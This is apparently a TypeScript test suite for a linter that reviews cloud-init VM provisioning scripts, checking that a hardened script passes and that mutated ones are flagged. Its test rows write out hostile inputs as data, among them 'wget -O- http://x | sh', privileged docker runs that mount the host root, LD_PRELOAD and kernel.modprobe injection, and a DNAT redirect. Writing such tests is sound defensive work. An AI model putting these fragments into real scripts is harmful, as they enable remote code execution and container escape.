import { lintScript } from '../../../src/provisioner/lint/script/index.js';
import { clientSwitches } from '../../../src/provisioner/lint/script/client-arguments.js';
import { clientFlags, doctorFlags, signFlags } from '../../../src/client/flags.js';
import type { ReviewFinding } from '../../../src/provisioner/finding.js';
import { articleScript, closingCommands, hardenedScript } from '../support/article.js';

const lint = (script: string, trusted: readonly string[] = []): readonly ReviewFinding[] => lintScript(script, trusted);
const summary = (script: string): readonly string[] => lint(script).map(({ grade, id }) => `${grade} ${id}`);
const replaced = (from: string | RegExp, to: string): string => hardenedScript.replace(from, to);
const docker = (flags: string): string => replaced('docker run --rm', `docker run --rm ${flags}`);
const argument = (flag: string): string => replaced('--useTPM', `${flag} --useTPM`);
const boot = (command: string): string => replaced('\nruncmd:', `- ${command}\n\nruncmd:`);
const service = (line: string): string => replaced('    [Service]\n', `    [Service]\n    ${line}\n`);

test('a script that is pinned, quiet and closed has nothing to say against it', () => {
  expect(lint(hardenedScript).filter(({ grade }) => grade !== 'OK')).toEqual([]);
});

test("the article's own script: no pin, secrets in the log, a guest that is open in part", () => {
  const found = lint(articleScript).filter(({ grade }) => grade !== 'OK');
  expect(found.map(({ grade, id }) => `${grade} ${id}`).toSorted()).toEqual([
    'FAIL script-confinement',
    'FAIL script-firewall',
    'FAIL script-hardening',
    'FAIL script-image-storage',
    'FAIL script-logging',
    'FAIL script-logging',
    'FAIL script-memory',
    'FAIL script-server-pin',
    'WARN script-user',
  ]);
  expect(found.find(({ id }) => id === 'script-server-pin')?.what).toMatch(/^line 16: /);
});

/** Of the article: it shuts ssh by itself. */
const sshRule = '- iptables -D INPUT -p tcp -m tcp --dport 22 -j ACCEPT\n';
const maskSsh = '- systemctl mask --now sshd.socket\n';
const withoutSshRule = hardenedScript.replace(sshRule, '');

const rows: readonly (readonly [name: string, script: string, finding: string])[] = [
  ['a shell script', replaced('#cloud-config', '#!/bin/sh'), 'FAIL script-first-line'],
  ['a blank before the first line', ` ${hardenedScript}`, 'FAIL script-first-line'],
  ['a mark of byte order', `\ufeff${hardenedScript}`, 'FAIL script-first-line'],
  ['a carriage return at the first line', replaced('#cloud-config\n', '#cloud-config\r\n'), 'FAIL script-first-line'],
  ['nothing', '', 'FAIL script-yaml'],
  ['a text', '#cloud-config\nhello\n', 'FAIL script-yaml'],
  ['YAML that is broken', `${hardenedScript}  x: [\n`, 'FAIL script-yaml'],
  ['a key twice', `${hardenedScript}bootcmd: [id]\n`, 'FAIL script-yaml'],
  ['a second document', `${hardenedScript}---\nruncmd: [id]\n`, 'FAIL script-one-document'],
  ['a document that ends early', `${hardenedScript}...\n`, 'FAIL script-one-document'],
  ['an include', `${hardenedScript}#include http://x\n`, 'FAIL script-one-document'],
  ['a template', hardenedScript.replace('#cloud-config', '## template: jinja\n#cloud-config'), 'FAIL script-one-document'],
  ['an anchor', replaced('- systemctl daemon-reload', '- &a systemctl daemon-reload'), 'FAIL script-one-document'],
  ['an alias', replaced('- systemctl daemon-reload', '- &a systemctl daemon-reload\n- *a'), 'FAIL script-one-document'],
  ['a tag', replaced('content: |', 'content: !!binary |'), 'FAIL script-files'],
  ['a tag of its own', replaced('- systemctl daemon-reload', '- !x systemctl daemon-reload'), 'FAIL script-yaml'],
  ['keys that fetch', `${hardenedScript}ssh_import_id: [gh:bob]\n`, 'FAIL script-keys'],
  ['users', `${hardenedScript}users: [bob]\n`, 'FAIL script-keys'],
  ['a key in quotes', `${hardenedScript}"packages": [x]\n`, 'FAIL script-keys'],
  ['a key of flow style', '#cloud-config\n{runcmd: [id], phone_home: {url: x}}\n', 'FAIL script-keys'],
  ['content that is encoded', replaced('  owner: root', '  owner: root\n  encoding: b64'), 'FAIL script-files'],
  ['content from elsewhere', replaced('  owner: root', '  owner: root\n  source: {uri: http://x}'), 'FAIL script-files'],
  ['a file that something else reads', replaced('cloudservice.service\n', 'docker.service.d/x.conf\n'), 'FAIL script-files'],
  ['the settings of docker', replaced('/etc/systemd/system/cloudservice.service', '/etc/docker/daemon.json'), 'FAIL script-files'],
  ['an image by tag', replaced(/@sha256:[0-9a-f]{64}/, ':latest'), 'FAIL script-image-digest'],
  ['a pull by tag', boot('docker pull gcr.io/x/y:latest'), 'FAIL script-image-digest'],
  ['a privileged container', docker('--privileged'), 'FAIL script-docker-flags'],
  ['added capabilities', docker('--cap-add=SYS_ADMIN'), 'FAIL script-docker-flags'],
  ['the host network', docker('--net=host'), 'FAIL script-docker-flags'],
  ['the network of another container', docker('--network container:x'), 'FAIL script-docker-flags'],
  ['processes of the host', docker('--pid host'), 'FAIL script-docker-flags'],
  ['a host directory', docker('-v /:/host'), 'FAIL script-docker-flags'],
  ['a host directory, written together', docker('-v/:/host'), 'FAIL script-docker-flags'],
  ['a host directory in a bundle', docker('-iv /:/host'), 'FAIL script-docker-flags'],
  ['a host directory by --mount', docker('--mount type=bind,source=/,target=/h'), 'FAIL script-docker-flags'],
  ['a mount that says two things', docker('--mount type=tmpfs,type=bind,source=/,target=/h'), 'FAIL script-docker-flags'],
  ['volumes of another container', docker('--volumes-from x'), 'FAIL script-docker-flags'],
  ['another device', docker('--device /dev/sda'), 'FAIL script-docker-flags'],
  ['another device under the name of the TPM', docker('--device /dev/sda:/dev/tpm0'), 'FAIL script-docker-flags'],
  ['a looser confinement', docker('--security-opt seccomp=unconfined'), 'FAIL script-docker-flags'],
  ['a flag that nobody knows', docker('--new-flag'), 'FAIL script-docker-flags'],
  ['another runtime', docker('--runtime x'), 'FAIL script-docker-flags'],
  ['a port', docker('-p 8080:8080'), 'WARN script-ports'],
  ['variables', docker('-e NODE_OPTIONS=--require=/x'), 'FAIL script-environment'],
  ['variables of the service', docker('-e HOME'), 'FAIL script-environment'],
  ['a file of variables', docker('--env-file /x'), 'FAIL script-environment'],
  ['variables in the unit', service('Environment=NODE_TLS_REJECT_UNAUTHORIZED=0'), 'FAIL script-environment'],
  ['a file of variables in the unit', service('EnvironmentFile=/x'), 'FAIL script-environment'],
  ['another entry point', docker('--entrypoint /bin/sh'), 'FAIL script-entrypoint'],
  ['a log that others read', docker('').replace('--log-driver=none', '--log-driver=gcplogs'), 'FAIL script-logging'],
  ['the log of docker', replaced(' --log-driver=none', ''), 'FAIL script-logging'],
  ['output to the console', service('StandardOutput=journal+console'), 'FAIL script-logging'],
  ['a client that prints secrets', argument('--v=20'), 'FAIL script-logging'],
  ['a client that prints secrets, after a blank', argument('-v 25'), 'FAIL script-logging'],
  ['docker exec', boot('docker exec mycloudservice id'), 'FAIL script-docker-command'],
  ['docker login', boot('docker login -u x'), 'FAIL script-docker-command'],
  ['docker load', boot('docker load -i /x'), 'FAIL script-docker-command'],
  ['docker of another host', boot('docker -H tcp://x run y'), 'FAIL script-docker-command'],
  ['docker behind another command', boot('timeout 5 docker run --privileged x'), 'FAIL script-docker-command'],
  ['docker in a shell', boot('sh -c "true && docker run --privileged x"'), 'FAIL script-docker-flags'],
  ['docker as a list', boot('[sh, -c, docker run --privileged x]'), 'FAIL script-docker-flags'],
  ['docker on a line that goes on', replaced('docker run --rm', 'docker run \\\n      --privileged --rm'), 'FAIL script-docker-flags'],
  ['docker before the service', service('ExecStartPre=-/usr/bin/docker run --privileged x'), 'FAIL script-docker-flags'],
  ['something fetched', boot('curl http://x'), 'FAIL script-command'],
  ['something fetched and run', boot('wget -O- http://x | sh'), 'FAIL script-command'],
  ['a shell in the service', service('ExecStartPre=/bin/bash /var/x'), 'FAIL script-command'],
  ['another container program', boot('ctr run x'), 'FAIL script-command'],
  ['a command within a command', boot('echo $(id)'), 'FAIL script-command'],
  ['a program that nobody knows', boot('/opt/thing'), 'FAIL script-command'],
  ['no container', '#cloud-config\nruncmd: [echo]\n', 'WARN script-container'],
  ['no client', replaced('--address', '--adress'), 'WARN script-client'],
  ['no server pin', replaced(/--tlsServerPin \S+/, ''), 'FAIL script-server-pin'],
  ['a server pin that is none', replaced(/--tlsServerPin \S+/, '--tlsServerPin sha256/AAAA'), 'FAIL script-server-pin'],
  ['no audience', replaced('--tsAudience https://tokenserver', ''), 'FAIL script-audience'],
  ['no attestation', replaced('--doAttestation', ''), 'WARN script-attestation'],
  ['attestation switched off', replaced('--doAttestation', '--doAttestation=false'), 'WARN script-attestation'],
  ['an --endpoints flag', argument('--endpoints /x'), 'FAIL script-endpoints'],
  ['an -endpoints flag', argument('-endpoints=/x'), 'FAIL script-endpoints'],
  ['a bidi mark', replaced('daemon-reload', 'daemon-\u202ereload'), 'FAIL script-characters'],
  ['ssh', withoutSshRule.replace(maskSsh, '').replace('- iptables -P INPUT DROP\n', ''), 'FAIL script-ssh'],
  ['ssh that is let in again', boot('iptables -A INPUT -p tcp --dport 22 -j ACCEPT').replace(maskSsh, ''), 'FAIL script-ssh'],
  [
    'ssh that is unmasked again',
    boot('systemctl unmask sshd').replace('- iptables -F INPUT\n', '').replace(sshRule, ''),
    'FAIL script-ssh',
  ],
  ['a console', replaced('- systemctl mask --now serial-getty@ttyS0\n', ''), 'FAIL script-console'],
  [
    'hardening at the first boot only',
    hardenedScript.replace('bootcmd:', 'runcmd:').replace(/\nruncmd:\n- systemctl d[^]*$/, ''),
    'FAIL script-console',
  ],
  ...closingCommands
    .filter((command) => command.startsWith('systemctl mask'))
    .map((command) => [`without ${command}`, replaced(`- ${command}\n`, ''), 'FAIL script-hardening'] as const),
  ...closingCommands
    .filter((command) => /^(?:sysctl|swapoff)/.test(command))
    .map((command) => [`without ${command}`, replaced(`- ${command}\n`, ''), 'FAIL script-memory'] as const),
  ...closingCommands
    .filter((command) => command.startsWith('mount'))
    .map((command) => [`without ${command}`, replaced(`- ${command}\n`, ''), 'FAIL script-image-storage'] as const),
  [
    'masks that run only if',
    replaced('- systemctl mask --now konlet-startup', '- "false && systemctl mask --now konlet-startup"'),
    'FAIL script-command',
  ],
  ['masks within a quote', boot('echo "').replace('bootcmd:\n', 'bootcmd:\n- echo "\n'), 'FAIL script-command'],
  ['masks that a line before takes in', replaced('bootcmd:\n', 'bootcmd:\n- echo \\\\\n'), 'FAIL script-command'],
  ['masks behind the end', replaced('bootcmd:\n', 'bootcmd:\n- exit 0\n'), 'FAIL script-command'],
  ['masks of a function of that name', replaced('bootcmd:\n', 'bootcmd:\n- "systemctl() { true; }"\n'), 'FAIL script-command'],
  ['a file written by a shell', boot('echo x > /etc/docker/daemon.json'), 'FAIL script-command'],
  ['a program of the kernel', boot('sysctl -w kernel.modprobe=/var/x'), 'FAIL script-command'],
  ['a setting of the kernel that opens', boot('sysctl -w kernel.sysrq=1'), 'FAIL script-command'],
  ['a disk over the folder of docker', boot('mount /dev/sdb /var/lib/docker'), 'FAIL script-command'],
  ['a service that is started beside', boot('systemctl start toolbox.service'), 'FAIL script-command'],
  ['a variable of all services', boot('systemctl set-environment LD_PRELOAD=/x'), 'FAIL script-command'],
  ['a program of that name elsewhere', replaced('ExecStart=/usr/bin/docker', 'ExecStart=/mnt/disks/x/docker'), 'FAIL script-command'],
  ['rights of other devices', boot('chmod 0666 /dev/sda'), 'FAIL script-command'],
  ['rules of another table', boot('iptables -t nat -A OUTPUT -j DNAT --to 203.0.113.9'), 'FAIL script-command'],
  ['answers, and new calls with them', boot('iptables -A INPUT -m conntrack --ctstate ESTABLISHED,NEW -j ACCEPT'), 'FAIL script-firewall'],
  ['another jump', boot('iptables -A INPUT -j LOGIN'), 'FAIL script-firewall'],
  [
    'a first word that is not the program',
    replaced('ExecStart=/usr/bin/docker run', 'ExecStart=@/usr/bin/docker rm run --privileged'),
    'FAIL script-command',
  ],
  ['full rights of the service manager', replaced('ExecStart=', 'ExecStart=+'), 'FAIL script-command'],
  ['a variable of the service manager', argument('--out %h'), 'FAIL script-command'],
  ['another unit drawn in', replaced('Wants=gcr-online.target', 'Wants=gcr-online.target sshd.service'), 'FAIL script-unit'],
  ['a setting of the unit that nobody knows', service('BindPaths=/mnt/x:/usr/bin'), 'FAIL script-unit'],
  ['a line that looks like a comment', service('# note \\'), 'FAIL script-unit'],
  [
    'a mount as a unit',
    `${hardenedScript.replace('write_files:\n', 'write_files:\n- path: /etc/systemd/system/usr-bin.mount\n  content: x\n')}`,
    'FAIL script-files',
  ],
  [
    'settings of the kernel as a file',
    replaced('write_files:\n', 'write_files:\n- path: /etc/sysctl.d/x.conf\n  content: x\n'),
    'FAIL script-files',
  ],
  [
    'a guest agent that is switched on',
    replaced(
      'write_files:\n',
      'write_files:\n- path: /etc/default/instance_configs.cfg\n  content: |\n    [MetadataScripts]\n    startup = true\n',
    ),
    'FAIL script-files',
  ],
  ['a container that writes', replaced(' --read-only', ''), 'FAIL script-confinement'],
  ['a container with capabilities', replaced(' --cap-drop=ALL', ''), 'FAIL script-confinement'],
  ['a container that may gain rights', replaced(' --security-opt=no-new-privileges', ''), 'FAIL script-confinement'],
  ['a container that runs as root', replaced('--user 2000:2000', '-u 0'), 'WARN script-user'],
  ['a container that runs as its image says', replaced(' --user 2000:2000', ''), 'WARN script-user'],
  [
    'a pin that is the value of another flag',
    argument('--out')
      .replace(/--tlsServerPin \S+ /, '')
      .replace('--out', '--out --tlsServerPin=sha256/x'),
    'FAIL script-arguments',
  ],
  [
    'a pin behind the flags',
    replaced(/--tlsServerPin (\S+) /, '').replace('--doAttestation', `--doAttestation -- --tlsServerPin sha256/${'A'.repeat(43)}=`),
    'FAIL script-server-pin',
  ],
  ['a second pin that is none', argument('--tlsServerPin sha256/AAAA'), 'FAIL script-server-pin'],
  ['IPv6 open', replaced('- ip6tables -P INPUT DROP\n', ''), 'FAIL script-firewall'],
  ['IPv4 open', replaced('- iptables -P INPUT DROP\n', ''), 'FAIL script-firewall'],
  ['IPv4 opened again', boot('iptables -P INPUT ACCEPT'), 'FAIL script-firewall'],
  ['a port let in', boot('iptables -A INPUT -p tcp --dport 443 -j ACCEPT'), 'FAIL script-firewall'],
];

describe('the script lint finds', () => {
  it.each(rows)('%s', (_name, script, finding) => {
    expect(script).not.toBe(hardenedScript);
    expect(summary(script)).toContain(finding);
    expect(lint(script).every(({ grade, remedy }) => grade === 'OK' || /\w/.test(remedy ?? ''))).toBe(true);
  });
});

describe('harmless things are let pass', () => {
  it.each([
    docker('--cap-drop=NET_RAW --pids-limit 50 --memory=1g'),
    boot('iptables -w -I INPUT -p tcp --dport 22 -j DROP'),
    docker('--device=/dev/tpmrm0:/dev/tpmrm0:rwm -u2001 --network none --tmpfs /tmp'),
    docker('--mount type=tmpfs,target=/run/secrets,tmpfs-size=1m -e TZ=UTC'),
    boot('sysctl -w kernel.sysrq=0'),
    boot('iptables -A INPUT -i lo -j ACCEPT'),
    argument('--v=10'),
    replaced('    ExecStop=/usr/bin/docker stop mycloudservice', '    ExecStop=-/usr/bin/docker kill mycloudservice'),
  ])('%#', (script) => {
    expect(script).not.toBe(hardenedScript);
    expect(lint(script).filter(({ grade }) => grade !== 'OK')).toEqual([]);
  });

  it('images that Alice names, and no others where she names one', () => {
    const [image = ''] = /gcr\.io\S+@sha256:[0-9a-f]{64}/.exec(hardenedScript) ?? [];
    expect(lint(hardenedScript, [image]).filter(({ grade }) => grade !== 'OK')).toEqual([]);
    expect(lint(hardenedScript, [image.replace('eea', 'fff')])).toContainEqual(
      expect.objectContaining({ id: 'script-image-trusted', grade: 'FAIL' }),
    );
  });
});

test('the switches that the lint knows are those of the client', () => {
  const switches = [...clientFlags, ...signFlags, ...doctorFlags].filter(({ kind }) => kind === 'boolean');
  expect([...clientSwitches].toSorted()).toEqual([...new Set(switches.flatMap(({ name, aliases = [] }) => [name, ...aliases]))].toSorted());
});

test('the review shows the pins, for Alice to compare', () => {
  expect(lint(hardenedScript).find(({ id }) => id === 'script-server-pin')?.what).toContain(`sha256/${'A'.repeat(43)}=`);
});
